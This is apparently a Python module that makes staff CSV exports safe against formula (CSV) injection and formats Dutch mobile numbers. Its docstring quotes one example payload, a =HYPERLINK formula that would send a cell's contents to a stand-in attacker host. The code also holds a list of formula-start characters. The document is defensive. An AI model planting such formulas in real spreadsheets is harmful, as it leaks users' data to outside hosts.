"""CSV downloads for staff, safe to open in a spreadsheet: no cell can start a formula.

Text in the exports comes in through public forms, so a name like ``=HYPERLINK("http://evil.example/?x="&A1)``
must arrive in Excel or LibreOffice as text, never as a formula (CSV injection, OWASP). Every text cell
that begins with ``= + - @``, a tab or a carriage return gets a single quote in front, as OWASP advises;
numbers stay numbers.

Phone numbers are shown the Dutch way, ``06 12345678``: readable, accepted by WhatsApp on a Dutch
phone, and unlike ``+31612345678`` they neither start a formula nor need the quote. The space keeps a
spreadsheet from reading the number as a number (which would drop the leading 0). A number in any
other notation is written as text like every other cell.
"""
from __future__ import annotations

import csv
import io
import re

# OWASP's list, plus a line feed, which some spreadsheet programs also skip before a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
DUTCH_MOBILE_RE = re.compile(r"^\+316([0-9]{8})$")


def safe_cell(value):
    """Return value as a spreadsheet reads it literally: text that could start a formula gets a quote first."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def phone_cell(phone: str | None) -> str:
    """Return a mobile number as 06 12345678 (stored as +316xxxxxxxx); any other notation as a safe cell."""
    match = DUTCH_MOBILE_RE.match((phone or "").strip())
    if match:
        return "06 " + match.group(1)
    return safe_cell(phone)


def csv_text(header: list[str], rows) -> str:
    """Return a semicolon-separated table with a byte-order mark (for Excel), every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return "\ufeff" + buffer.getvalue()
